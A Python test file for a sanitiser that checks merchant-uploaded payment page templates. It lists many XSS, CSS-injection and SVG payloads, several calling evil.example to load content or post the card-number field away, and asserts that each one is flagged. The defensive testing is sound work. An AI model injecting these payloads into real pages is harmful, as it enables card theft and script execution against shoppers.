"""The check of page sets: what needs no approval, what the provider has to see, what is mended."""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from altyn.domain.page_set import (
    FINDINGS_MAX,
    TEXT_BYTES_MAX,
    VALUES_MAX,
    CheckedFiles,
    Fault,
)
from altyn.inbound.page_sets import preview
from altyn.inbound.page_sets.addresses import FileCheck
from altyn.inbound.page_sets.allowed import ALLOWED, is_allowed
from altyn.inbound.page_sets.check import check_page_set
from altyn.inbound.page_sets.order_values import filled
from altyn.inbound.page_sets.page_check import PageCheck
from altyn.inbound.page_sets.preview import PREVIEW_CHARS_MAX, preview_page
from altyn.inbound.page_sets.style import check_style
from tests.page_sets import CHECKED_SET, ERRORS, FIELDS, PAYMENT, PNG, SCRIPTED_SET, packed

ROOT: Final = Path(__file__).resolve().parents[4]
SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
# Ways to run a script, to send a card elsewhere or to load something from another host.
HOSTILE_MARKUP: Final = (
    "<script>x()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n src='js/x.js'></script >",
    "<script/src=x></script>",
    "<scr<script>ipt>x()</script>",
    "<<script>x()//<</script>",
    "<script>x()",
    "<style><script>x()</script></style>",
    "<title><script>x()</script></title><script>y()</script>",
    "<title></title x><script>x()</script></title>",
    "<!--><script>x()</script>-->",
    "<!--a--!><script>x()</script>-->",
    "<!-- --><script>x()</script><!-- -->",
    "<![CDATA[<script>x()</script>]]>",
    "<?xml version='1.0'?><script>x()</script>",
    "<img src=x onerror=x()>",
    '<img src="images/logo.png" ONERROR="x()">',
    "<img src='images/logo.png'onerror=x()>",
    "<img src=images/logo.png/onerror=x()>",
    '<img src="images/logo.png" on\nerror="x()">',
    "<body onload=x()>",
    "<p onclick&#61;x()>",
    '<p style="background:url(javascript:x())">',
    '<p style="background:url(//evil.example/a.png)">',
    '<p style="background:u\\72l(//evil.example/a.png)">',
    '<p style="background:image-set(&quot;//evil.example/a.png&quot; 1x)">',
    "<p style=\"content:'&#13;;background:url(//evil.example/a.png);x:'\">",
    "<p style=\"content:'&#12;;background:url(//evil.example/a.png);x:'\">",
    "<p style=\"content:'\\&#13;;background:url(//evil.example/a.png);x:'\">",
    "<p style=\"content:'&#12;;background:image-set('//evil.example/a.png' 1x);x:'\">",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>@IMPORT url(//evil.example/a.css);</style>",
    "<style>@\\69mport url(//evil.example/a.css);</style>",
    "<style>a{background:url(https://evil.example/?a)}</style>",
    "<style>a{width:expression(x())}</style>",
    "<style>a{-moz-binding:url(x.xml#a)}</style>",
    "<style>/*</style><script>x()</script>*/</style>",
    '<a href="javascript:x()">a</a>',
    '<a href=" JaVaScRiPt:x()">a</a>',
    '<a href="java&#x0A;script:x()">a</a>',
    '<a href="&#106;avascript&colon;x()">a</a>',
    '<a href="java&Tab;script:x()">a</a>',
    '<a href="data:text/html,<script>x()</script>">a</a>',
    '<a href="vbscript:x()">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="http://evil.example">a</a>',
    '<a href="/mportal3/users">a</a>',
    '<a href="https://evil.example" ping="https://evil.example">a</a>',
    '<form method="post" action="https://evil.example"><input name="$PAN"></form>',
    '<form method="post" action="../../../mportal3/users"></form>',
    '<form action="?"></form>',
    "<form></form>",
    '<form method="get"></form>',
    '<form method="post" target="x"></form>',
    '<form method="post"><button formaction="https://evil.example">a</button></form>',
    '<form method="post"><button formmethod="get">a</button></form>',
    '<form method="post"><input type="image" src="images/logo.png"></form>',
    '<form method="post" id="f"></form><input form="f" name="TEXT">',
    '<form method="post" method="get"></form>',
    '<input name="jsonParams">',
    '<input name="password">',
    '<input name="csrf">',
    '<input name="TEXT" type="password">',
    '<input type="PASSWORD" name="email" autocomplete="current-password">',
    '<input type="password">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0;url=javascript:x()">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta charset="utf-7">',
    '<base href="https://evil.example/">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>',
    '<object data="images/logo.png"></object>',
    '<embed src="images/logo.png">',
    "<frameset><frame src=x></frameset>",
    "<svg onload=x()></svg>",
    "<svg><script>x()</script></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg><a xlink:href='javascript:x()'>a</a></svg>",
    "<svg><animate attributeName=href values=javascript:x() /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></math>",
    "<template><script>x()</script></template>",
    "<template><p>a</p></template>",
    '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
    "<textarea></textarea><script>x()</script>",
    "<xmp><p title='</xmp><script>x()</script>'></xmp>",
    "<plaintext>",
    "<video src=x></video>",
    "<audio src=x onerror=x()></audio>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="stylesheet" href="data:text/css,a{}">',
    '<link rel="manifest" href="images/logo.png">',
    '<link rel="import" href="images/logo.png">',
    '<link rel="preload" as="script" href="images/logo.png">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<img src="https://evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="https://evil.example/../../images/logo.png">',
    '<img src="\\\\evil.example/../images/logo.png">',
    '<img src="javascript:/../images/logo.png">',
    '<img src="%2e%2e/x/../../images/logo.png">',
    '<img src="images//logo.png">',
    '<link rel="stylesheet" href="https://evil.example/../../css/page.css">',
    '<img src="/mportal3/users">',
    '<img src="../other/images/logo.png">',
    '<img src="data:text/html,x">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<table background="https://evil.example/a.png"></table>',
    "<marquee onstart=x()>a</marquee>",
    "<details ontoggle=x() open>a</details>",
    "<custom-element></custom-element>",
    "<p is='x'>a</p>",
    "<p a`b='x'>a</p>",
    "a < b",
    "<p",
    '<p title="',
    "</p a>",
    "<div slot='a' part='b'></div>",
)
HOSTILE_STYLES: Final = (
    "@import 'https://evil.example/a.css';",
    "@import url(page.css);",
    "@namespace url(https://evil.example);",
    "@document url(https://evil.example) {}",
    "a { background: url(https://evil.example/a.png) }",
    "a { background: URL( '//evil.example/a.png' ) }",
    "a { background: url(javascript:x()) }",
    "a { background: url(\\68ttps://evil.example) }",
    "a { background: \\75rl(https://evil.example) }",
    "a { background: image(https://evil.example/a.png) }",
    "a { background: -webkit-image-set('https://evil.example/a.png' 1x) }",
    "a { background: src('https://evil.example/a.png') }",
    "a { background: cross-fade(url(x.png), url(y.png)) }",
    "a { background: element(#a) }",
    "a { width: expression(x()) }",
    "a { behavior: url(a.htc) }",
    "a { content: 'unclosed",
    "a { /* unclosed",
    "a { background: url(data:text/html,x) }",
    "a { background: url(../../other/a.png) }",
    "a { background: url(https://evil.example/../../../images/logo.png) }",
)
HOSTILE_PICTURES: Final = (
    SVG.format("<script>x()</script>"),
    SVG.format("<a href='javascript:x()'><path d='M0 0'/></a>"),
    SVG.format("<image href='https://evil.example/a.png'/>"),
    SVG.format("<use href='https://evil.example/a.svg#a'/>"),
    SVG.format("<use href='data:image/svg+xml,x#a'/>"),
    SVG.format("<foreignObject><body onload='x()'/></foreignObject>"),
    SVG.format("<path d='M0 0' onclick='x()'/>"),
    SVG.format("<set attributeName='href' to='javascript:x()'/>"),
    SVG.format("<style>@import url(https://evil.example);</style>"),
    SVG.format("<style><g/>@import url(https://evil.example);</style>"),
    SVG.format("<style><title>@import url(https://evil.example);</title></style>"),
    SVG.format("<style>a{content:'&#13;;background:url(//evil.example/a.png)}'</style>"),
    SVG.format('<path style="content:\'&#13;;fill:url(https://evil.example/a.png)"/>'),
    SVG.format("<path style='fill:url(https://evil.example)'/>"),
    SVG.format("<path fill='url(//evil.example#a)'/>"),
    SVG.format("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>x()</h:script>"),
    '<?xml-stylesheet href="https://evil.example/a.css"?>' + SVG.format(""),
    '<!DOCTYPE svg [<!ENTITY x "y">]>' + SVG.format("&x;"),
    '<!DOCTYPE svg PUBLIC "a" "https://evil.example/a.dtd">' + SVG.format(""),
    "<svg><path d='M0 0'/></svg>",
    "<svg",
)


def check(**files: str | bytes) -> CheckedFiles:
    """The check of the usual set with some files replaced; `__` is a point, `_in_` a slash."""
    named = {name.replace("__", ".").replace("_in_", "/"): each for name, each in files.items()}
    return check_page_set(packed({**CHECKED_SET, **named}))


def with_markup(markup: str) -> CheckedFiles:
    return check(payment_ru__html=PAYMENT.replace("<img", f"{markup}<img"))


def test_set_without_own_scripts_needs_no_approval() -> None:
    checked = check_page_set(packed(CHECKED_SET))
    assert not checked.findings
    assert checked.storable
    page = filled(checked.files["payment_en.html"].decode(), {"amount": "1 & 2", "shop": "#"})
    assert '<b data-order="amount">1 &amp; 2</b>' in page
    assert '<a data-link="shop" href="#">' in page
    assert "<title>Shop &amp; Co</title>" in page
    assert '<input id="pan" name="$PAN" inputmode="numeric">' in page
    assert '<link rel="stylesheet" href="css/page.css">' in page


def test_page_of_the_how_to_needs_no_approval() -> None:
    how_to = (ROOT / "docs" / "how-to" / "own-page-template.md").read_text("utf-8")
    page = how_to.partition("```html\n")[2].partition("```")[0]
    assert not check(payment_ru__html=page).findings


def test_set_with_own_scripts_waits_and_stays_as_it_is() -> None:
    checked = check_page_set(packed(SCRIPTED_SET))
    assert {each.fault for each in checked.findings} == {Fault.SCRIPT}
    assert {(each.file, each.line) for each in checked.findings} == {
        ("payment_ru.html", PAYMENT.count("\n") + 1),
        ("js/page.js", 0),
    }
    assert checked.storable
    assert checked.files["payment_ru.html"] == str(SCRIPTED_SET["payment_ru.html"]).encode()


@pytest.mark.parametrize("markup", HOSTILE_MARKUP)
def test_hostile_markup_is_found_with_its_line(markup: str) -> None:
    checked = with_markup(markup)
    assert checked.findings
    first = PAYMENT[: PAYMENT.index("<img")].count("\n") + 1
    for each in checked.findings:
        assert each.file == "payment_ru.html"
        assert first <= each.line


@pytest.mark.parametrize("style", HOSTILE_STYLES)
def test_hostile_style_is_found(style: str) -> None:
    checked = check(css_in_page__css=f"body {{}}\n{style}")
    assert checked.findings
    assert {(each.file, each.line) for each in checked.findings} == {("css/page.css", 2)}


@pytest.mark.parametrize("picture", HOSTILE_PICTURES)
def test_hostile_picture_is_found(picture: str) -> None:
    assert {each.fault for each in check(images_in_a__svg=picture).findings} <= {
        Fault.PICTURE,
        Fault.STYLE,
        Fault.ADDRESS,
    }
    assert check(images_in_a__svg=picture).findings


def test_usual_styles_and_pictures_need_no_approval() -> None:
    style = """@charset "utf-8"; @media (width <= 600px) { .a::before { content: "\\201C"; } }
    @font-face { font-family: A; src: url('../a.woff2?v=1') format("woff2"), local("A") }
    .b { background: no-repeat url(data:image/svg+xml;base64,PHN2Zz4=), linear-gradient(#fff, #000);
      width: calc(100% - var(--x)); transform: translateX(-1px); color: rgb(0 0 0 / 50%) }
    @keyframes k { from { opacity: 0 } } /* url(https://shop.example) */ a:not(:hover) > b {}"""
    picture = SVG.format(
        "<defs><linearGradient id='a'><stop offset='0' stop-color='#fff'/></linearGradient></defs>"
        "<path d='M0 0h9v9z' fill='url(#a)'/><use href='#a'/><style>.x{fill:red}</style>"
    )
    checked = check(css_in_page__css=style, images_in_a__svg=picture, a__woff2=b"wOF2" + bytes(9))
    assert not checked.findings


@pytest.mark.parametrize(
    ("files", "fault"),
    [
        ({"payment_ru__html": PAYMENT.encode("cp1251", "replace") + b"\xcf"}, Fault.ENCODING),
        ({"payment_ru__html": PAYMENT.encode("utf-16")}, Fault.ENCODING),
        ({"payment_ru__html": PAYMENT.replace("Shop", "Sh\0op")}, Fault.CONTROL_CHARACTER),
        ({"css_in_page__css": "a { \x1b }"}, Fault.CONTROL_CHARACTER),
        ({"index__html": PAYMENT}, Fault.PAGE_NAME),
        ({"css_in_payment_ru__html": PAYMENT}, Fault.PAGE_NAME),
        ({"page__php": "<?php"}, Fault.FILE_TYPE),
        ({"page__htm": PAYMENT}, Fault.FILE_TYPE),
        ({"images_in_logo__png": b"<script>x()</script>"}, Fault.OTHER_CONTENT),
        ({"a__woff": PNG}, Fault.OTHER_CONTENT),
        ({"payment_ru__html": PAYMENT.replace("logo.png", "gone.png")}, Fault.MISSING_FILE),
        ({"css_in_page__css": "a { background: url(gone.png) }"}, Fault.MISSING_FILE),
        ({"payment_ru__html": PAYMENT.replace("$CVC", "phone")}, Fault.NO_CARD_FIELDS),
        ({"payment_ru__html": PAYMENT.replace("shopName", "secret")}, Fault.ORDER_VALUE),
        ({"errors_en__html": ERRORS.replace("why", "<b>why</b>")}, Fault.ORDER_VALUE),
        ({"errors_en__html": '<a data-link="evil">a</a>'}, Fault.ORDER_VALUE),
        ({"errors_en__html": '<a data-link="shop" href="#">a</a>'}, Fault.ORDER_VALUE),
    ],
)
def test_faults_that_the_shop_mends_store_nothing(
    files: dict[str, str | bytes], fault: Fault
) -> None:
    checked = check(**files)
    assert fault in {each.fault for each in checked.findings}
    assert not checked.storable
    assert not checked.files


def test_set_needs_a_payment_page() -> None:
    checked = check_page_set(packed({"errors_ru.html": ERRORS}))
    assert [each.fault for each in checked.findings] == [Fault.NO_PAGE]


def test_values_of_an_order_are_escaped() -> None:
    page = check_page_set(packed(CHECKED_SET)).files["payment_en.html"].decode()
    hostile = '"><script>x()</script>'
    values = dict.fromkeys(("amount", "orderNumber", "shopName", "shop"), hostile)
    assert "<script" not in filled(page, values)
    assert "\0" not in filled(page, {})


def test_findings_are_bounded_and_what_the_shop_mends_comes_first() -> None:
    checked = check(payment_ru__html=PAYMENT + "<\n" * 3_000, css_in_page__css="a { url(gone.png)")
    assert len(checked.findings) == FINDINGS_MAX
    assert checked.findings[0].fault is Fault.MISSING_FILE
    assert {each.fault for each in checked.findings[1:]} == {Fault.MARKUP}


# ── What is written, as another parser reads it ───────────────────────────────────────────────────

PIECES: Final = st.sampled_from(
    [
        *HOSTILE_MARKUP,
        *itertools.chain.from_iterable((f"<{name}>", f"</{name}>") for name in ALLOWED),
        *("<", ">", '"', "'", "=", "/", "&", ";", "<!--", "-->", "--", "<![", "]]>", "\n", " "),
        *("&lt;script&gt;", "&#60;img", "on", "style=", "href=", "title='", "javascript:"),
        *("<script", "<style>", "</style>", "<title>", "</title>", "<svg>", "<math>", "<select>"),
        FIELDS,
    ]
)


def written_nodes(page: str) -> list[tuple[str, dict[str, str]]]:
    tree = lxml_html.document_fromstring(page)
    return [(str(each.tag), dict(each.attrib)) for each in tree.iter() if isinstance(each.tag, str)]


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_whatever_is_uploaded_the_written_page_has_allowed_things_only(markup: str) -> None:
    files = {path: c.encode() if isinstance(c, str) else c for path, c in CHECKED_SET.items()}
    files["payment_ru.html"] = PAYMENT.replace("<img", f"{markup}<img").encode()
    page = preview_page("payment_ru.html", files, "Shop", "ru")
    for element, attributes in written_nodes(page):
        assert element in ALLOWED, (element, page)
        for name, value in attributes.items():
            assert is_allowed(element, name), (name, page)
            assert not name.startswith("on")
            if name in {"href", "src"}:
                assert value.startswith(("data:image/", "data:text/css", "#", "https://")), value
            if (element, name) == ("form", "action"):
                assert not value


@settings(max_examples=100, deadline=None)
@given(st.lists(PIECES, min_size=1, max_size=8).map("".join))
def test_checked_page_is_checked_again_without_a_finding(markup: str) -> None:
    checked = with_markup(markup)
    if checked.findings:
        return
    again = {
        path: content.replace(b' href="\0shop\0"', b"").replace(b"\0", b"")
        for path, content in checked.files.items()
        if path.endswith(".html")
    }
    assert not check_page_set(packed({**CHECKED_SET, **again})).findings


# ── Memory and time ───────────────────────────────────────────────────────────────────────────────


def test_preview_with_a_picture_in_many_places_is_bounded() -> None:
    """100 MB and more of `data:` addresses would come of this archive of 1 MB."""
    page = PAYMENT.replace("<img", '<img src="images/logo.png">' * 50 + "<img")
    files = {
        "payment_ru.html": page.encode(),
        "css/page.css": b"a { background: url(../images/logo.png) }" * 3,
        "images/logo.png": PNG + bytes(1_500_000),
    }
    page = preview_page("payment_ru.html", files, "Shop", "ru")
    assert 2_000_000 < len(page) < 1.1 * PREVIEW_CHARS_MAX
    assert page.count("<img ") == 51
    assert '<img src="data:,">' in page


def test_preview_reads_each_file_once(monkeypatch: pytest.MonkeyPatch) -> None:
    read = list[str]()

    def check_once(text: str, _: FileCheck) -> str:
        read.append(text)
        return text

    monkeypatch.setattr(preview, "check_style", check_once)
    page = PAYMENT.replace("<img", '<link rel="stylesheet" href="css/page.css">' * 20 + "<img")
    preview_page("payment_ru.html", {"payment_ru.html": page.encode(), "css/page.css": b""}, "", "")
    assert len(read) == 1


def test_page_has_a_bounded_number_of_values_of_the_order() -> None:
    """A page is filled in at each look at it, and a description is long."""
    place = '<b data-order="description">a</b>'
    own = PAYMENT.count("data-order") + PAYMENT.count("data-link")
    assert not with_markup(place * (VALUES_MAX - own)).findings
    more = with_markup(place * (VALUES_MAX - own) + '<a data-link="shop">a</a>')
    assert {each.fault for each in more.findings} == {Fault.TOO_MANY_VALUES}
    assert not more.storable


@pytest.mark.parametrize("quote", ["'", '"'])
def test_long_namespace_of_a_picture_is_found_before_it_is_read(quote: str) -> None:
    """expat repeats the namespace in the name of each attribute."""
    declared = f"xmlns:a = {quote}{'n' * 257}{quote}"
    named = " ".join(f"a:b{number}=''" for number in range(9))
    [finding] = check(images_in_a__svg=SVG.format(f"<g {declared} {named}/>")).findings
    assert finding.fault is Fault.PICTURE
    assert finding.detail.startswith("xmlns:a")


@pytest.mark.slow
def test_check_takes_no_quadratic_time() -> None:
    """Each text is as long as a page may be. A quadratic reader would take minutes for each."""
    pieces = (
        "<a ",
        '<a x="',
        "<!--",
        "<style>",
        "</",
        "<a x='<a x=\"",
        "&lt",
        "<a b=c",
        "<",
        "<b>",
    )
    for piece in pieces:
        of_page = FileCheck("payment_ru.html", ())
        PageCheck(of_page).written(piece * (TEXT_BYTES_MAX // len(piece)))
        assert len(of_page.findings) <= 2 * FINDINGS_MAX
    for piece in ("/*", "url(", '"', "@a", "a(", "\\", "url( ", "a{", "/", "*/"):
        check_style(piece * (TEXT_BYTES_MAX // len(piece)), FileCheck("css/page.css", ()))
